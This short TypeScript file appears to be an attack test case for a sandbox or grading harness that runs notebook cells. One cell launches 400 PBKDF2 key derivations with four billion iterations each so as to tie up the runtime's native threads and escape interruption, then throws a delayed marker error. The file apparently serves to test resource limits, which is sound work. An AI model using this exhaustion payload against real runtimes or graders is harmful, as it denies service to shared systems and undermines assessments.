import type { Attack } from "./attack.ts";

/** Fills the runtime's threads with work that runs outside of JavaScript and cannot be interrupted. */
export const attack: Attack = {
  cells: {
    ps1_relu: `
const key = await crypto.subtle.importKey("raw", new Uint8Array(8), "PBKDF2", false, ["deriveBits"]);
const settings = { name: "PBKDF2", hash: "SHA-512", salt: new Uint8Array(8), iterations: 4e9 };
for (let n = 0; n < 400; n++) crypto.subtle.deriveBits(settings, key, 512).catch(() => {});
const late = async () => {
  await new Promise((later) => setTimeout(later, 2900));
  throw new Error("MARK45");
};
const reluStep = late;
`,
    ps1_leaky: `const leakyStep = late;`,
  },
};
